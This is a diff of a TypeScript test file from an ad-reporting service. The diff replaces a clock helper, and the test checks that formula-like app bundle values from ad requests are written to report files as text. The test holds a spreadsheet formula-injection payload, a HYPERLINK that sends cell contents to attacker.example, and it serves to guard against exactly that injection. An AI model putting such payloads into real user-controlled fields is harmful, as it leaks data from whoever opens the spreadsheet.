@@ -1,6 +1,7 @@
 import { expect, it } from 'vitest';
 import { forEachStore } from '../helpers.js';
 import { publisherTenant } from '../tenantFixture.js';
+import { isoDay, midHourClock } from '../testTime.js';
 
 /**
  * Text that an unauthenticated ad request brings (its app bundle, its domain) reaches the report
@@ -13,9 +14,7 @@ const HYPERLINK = '-2-HYPERLINK("http://attacker.example/?leak="&A1,"click")';
 forEachStore((t) => {
   const publisher = publisherTenant(t, async (p) => {
     await p.vastChannel('channel', 'Formulas', { demand: [] });
-  });
-
-  const day = (offsetDays: number) => new Date(Date.now() + offsetDays * 86_400_000).toISOString().slice(0, 10);
+  }, { clock: midHourClock() });
 
   it('writes a formula-like app bundle of an ad request as text in the report file, its requests as a number', async () => {
     for (const bundle of [CALC, HYPERLINK, '-1', '@SUM(A1)', 'com.example.tv']) {
@@ -24,7 +23,8 @@ forEachStore((t) => {
       await res.text();
     }
     await publisher.app.edge.flush();
-    const request = { startDate: day(-1), endDate: day(1), dimensions: ['app_bundle'], metrics: ['reqs'] };
+    const request = { startDate: isoDay(publisher.app.clock.now(), -1), endDate: isoDay(publisher.app.clock.now(), 1), dimensions: ['app_bundle'], metrics: ['reqs'] };
+
     const started = await publisher.request({ method: 'POST', url: '/api/rfile', payload: { name: 'Bundles', request } });
     expect(started.statusCode, started.body).toBe(202);
     const { id } = started.json<{ id: number }>();
